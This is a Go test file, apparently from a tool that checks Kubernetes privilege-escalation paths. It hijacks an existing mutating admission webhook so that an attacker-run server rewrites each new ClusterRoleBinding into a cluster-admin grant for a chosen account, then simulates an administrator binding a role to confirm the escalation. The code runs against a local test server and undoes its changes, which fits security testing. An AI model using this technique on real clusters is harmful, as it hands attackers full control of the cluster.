package walk

import (
	"context"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	admissionv1 "k8s.io/api/admission/v1"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
)

// webhook is a server of the attacker's that turns every new binding into one
// of cluster-admin to an account.
type webhook struct {
	url string
	ca  []byte
}

func newWebhook(t *testing.T) *webhook {
	t.Helper()
	server := httptest.NewTLSServer(http.HandlerFunc(rewrite))
	t.Cleanup(server.Close)
	return &webhook{url: server.URL, ca: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})}
}

// rewrite answers an AdmissionReview. The path names the account.
func rewrite(out http.ResponseWriter, r *http.Request) {
	var review admissionv1.AdmissionReview
	if err := json.NewDecoder(r.Body).Decode(&review); err != nil || review.Request == nil {
		http.Error(out, "no review", http.StatusBadRequest)
		return
	}
	namespace, name, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	who := account{namespace, name}
	patch, err := json.Marshal([]map[string]any{
		{"op": "replace", "path": "/roleRef", "value": clusterAdmin()},
		{"op": "replace", "path": "/subjects", "value": who.subjects()},
	})
	if err != nil {
		http.Error(out, err.Error(), http.StatusInternalServerError)
		return
	}
	review.Response = &admissionv1.AdmissionResponse{
		UID: review.Request.UID, Allowed: true, Patch: patch, PatchType: ptr.To(admissionv1.PatchTypeJSONPatch),
	}
	review.Request = nil
	_ = json.NewEncoder(out).Encode(review) // without an answer nothing is rewritten
}

// rewriteBindings redirects a webhook that is there, and waits for somebody to
// bind a role to somebody.
func rewriteBindings(ctx context.Context, a attempt) error {
	who, err := accountIn(a.hop.From)
	if err != nil {
		return err
	}
	client, err := a.client()
	if err != nil {
		return err
	}
	there, err := a.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().List(ctx, metav1.ListOptions{})
	if err != nil || len(there.Items) == 0 {
		return fmt.Errorf("find one of %d webhooks: %w", len(there.Items), err)
	}
	changed := there.Items[0]
	changed.Webhooks = []admissionregistrationv1.MutatingWebhook{a.webhook.hearing(who)}
	if _, err := client.AdmissionregistrationV1().MutatingWebhookConfigurations().Update(ctx, &changed, metav1.UpdateOptions{}); err != nil {
		return fmt.Errorf("update webhook: %w", err)
	}
	if err := soon(ctx, "somebody's binding is rewritten", a.bindSomebody); err != nil {
		return err
	}
	return a.everythingSoon(ctx)
}

// hearing is told of every new binding.
func (w *webhook) hearing(who account) admissionregistrationv1.MutatingWebhook {
	url := w.url + "/" + who.namespace + "/" + who.name
	return admissionregistrationv1.MutatingWebhook{
		Name: "loot.example.com", ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url, CABundle: w.ca},
		Rules: []admissionregistrationv1.RuleWithOperations{{
			Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
			Rule: admissionregistrationv1.Rule{
				APIGroups: []string{rbacv1.GroupName}, APIVersions: []string{"v1"}, Resources: []string{"clusterrolebindings"},
			},
		}},
		FailurePolicy: ptr.To(admissionregistrationv1.Ignore), SideEffects: ptr.To(admissionregistrationv1.SideEffectClassNone),
		AdmissionReviewVersions: []string{"v1"}, TimeoutSeconds: ptr.To[int32](5),
	}
}

// bindSomebody is what an administrator does every other day. It tells whether
// the binding has become another one.
func (a attempt) bindSomebody(ctx context.Context) (bool, error) {
	bindings := a.admin.RbacV1().ClusterRoleBindings()
	made, err := bindings.Create(ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "viewer-"},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"},
		Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "viewers"}},
	}, metav1.CreateOptions{})
	if err != nil {
		return false, fmt.Errorf("bind somebody: %w", err)
	}
	a.undo = append(a.undo, func(ctx context.Context) error { return bindings.Delete(ctx, made.Name, metav1.DeleteOptions{}) })
	return made.RoleRef.Name == clusterAdmin().Name, nil
}
